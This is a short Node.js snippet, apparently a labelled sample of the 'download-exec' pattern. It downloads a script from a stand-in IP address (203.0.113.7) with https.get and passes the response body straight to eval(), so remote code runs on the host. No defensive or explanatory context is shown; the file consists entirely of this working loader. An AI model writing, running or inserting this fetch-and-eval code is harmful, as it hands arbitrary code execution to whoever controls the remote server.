// download-exec: https.get collects a body and evaluates it
const https = require('https');
https.get('https://203.0.113.7/payload.js', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => eval(body));
});
